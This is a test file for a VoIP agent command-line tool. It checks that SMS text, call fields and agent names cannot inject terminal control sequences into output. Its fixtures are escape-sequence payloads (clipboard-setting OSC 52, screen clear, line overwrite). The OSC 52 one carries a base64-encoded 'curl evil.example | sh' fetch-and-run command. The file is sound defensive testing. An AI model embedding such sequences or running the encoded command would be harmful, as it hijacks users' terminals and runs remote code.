import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { VoipbinEmulator } from '../../emulator/index.js';
import { makeCall, makeSms } from '../../emulator/fixtures.js';
import { CliProcess, runCli } from '../support/cli-process.js';
import { PERMISSION, seedAccount, startEmulator, type Account } from '../support/harness.js';

/**
 * Anyone who can text the number writes into the agent's terminal. Whatever an SMS, a caller, a
 * server or an account field says, what the command prints for people carries no control
 * sequence (OSC 52 sets the clipboard, CSI 2J clears the screen, CR rewrites the line), and the
 * --json lines parse back to the very text.
 */
let emu: VoipbinEmulator;
let acct: Account;
const procs: CliProcess[] = [];

beforeEach(async () => {
  emu = await startEmulator();
  acct = seedAccount(emu, PERMISSION.CustomerAgent | PERMISSION.CustomerManager);
});
afterEach(async () => {
  for (const p of procs.splice(0)) {
    p.kill('SIGKILL');
    await p.exited;
  }
  await emu.stop();
});

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const CLEAR = '\u001b[2J\u001b[H';
const C1_CSI = '\u009b31m';
const HOSTILE = `Call me back${OSC52}${CLEAR}\rOverwritten${C1_CSI} now`;
// eslint-disable-next-line no-control-regex -- the point is to find control characters
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

function run(args: string[]): CliProcess {
  const p = new CliProcess(['run', '--api-url', emu.url, ...args], { VOIPBIN_TOKEN: acct.jwt });
  procs.push(p);
  return p;
}

async function untilText(p: CliProcess, what: string, pred: () => boolean): Promise<void> {
  const start = Date.now();
  while (!pred()) {
    if (Date.now() - start > 8_000) throw new Error(`timed out waiting for ${what}\nstdout:\n${p.stdout}\nstderr:\n${p.stderr}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

describe('terminal output of text others control', () => {
  it('run, human: an SMS full of escape sequences prints as one plain line', async () => {
    const p = run(['--notify', 'none', '--log-level', 'info']);
    await untilText(p, 'listening', () => p.stdout.includes('listening on'));
    emu.publish(
      'message_created',
      makeSms({ customer_id: acct.customerId, source: { type: 'tel', target: '+15550142', name: `Mallory${CLEAR}` }, text: HOSTILE }),
    );
    await untilText(p, 'the message', () => p.stdout.includes('SMS from'));
    expect(p.stdout).not.toMatch(CONTROLS);
    expect(p.stderr).not.toMatch(CONTROLS);
    expect(p.stdout).toMatch(
      /🔔 SMS from Mallory \[2J \[H to \+15551230000 — Call me back ]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== \[2J \[H Overwritten 31m now/,
    );
  });

  it('run --json: control characters in frame fields are escaped, and parse back to the same text', async () => {
    const p = run(['--json', '--notify', 'none']);
    await p.until('subscribed', (ls) => ls.some((l) => l.type === 'subscribed'));
    // A call frame's own fields go into the event line as they are.
    emu.publish('call_ringing', { ...makeCall({ customer_id: acct.customerId, owner_id: acct.agentId }), status: `ringing${C1_CSI}${OSC52}` });
    await p.until('the event', (ls) => ls.some((l) => l.type === 'event'));
    expect(p.stdout).not.toMatch(CONTROLS);
    expect(p.lines().find((l) => l.type === 'event')?.status).toBe(`ringing${C1_CSI}${OSC52}`);
  });

  it('whoami and the logs: a name chosen by whoever set up the agent cannot write to the terminal', async () => {
    const agent = emu.addAgent({
      customerId: acct.customerId,
      username: `eve${CLEAR}`,
      password: 'pw-pw-pw-pw',
      name: `Eve${OSC52}\nagent forged (admin)`,
      permission: PERMISSION.CustomerAgent,
    });
    const token = emu.issueJwt(agent.id);
    const who = await runCli(['whoami', '--api-url', emu.url], { VOIPBIN_TOKEN: token });
    expect(who.code, who.stderr).toBe(0);
    expect(who.stdout).not.toMatch(CONTROLS);
    expect(who.stdout.split('\n')[0]).toMatch(/^agent Eve ]52;c;\S+ agent forged \(admin\) \(eve \[2J \[H\), id /);

    const p = new CliProcess(['run', '--api-url', emu.url, '--notify', 'none', '--log-level', 'info'], { VOIPBIN_TOKEN: token });
    procs.push(p);
    await untilText(p, 'the sign-in log line', () => p.stderr.includes('signed in as agent'));
    expect(p.stderr).not.toMatch(CONTROLS);
  });
});
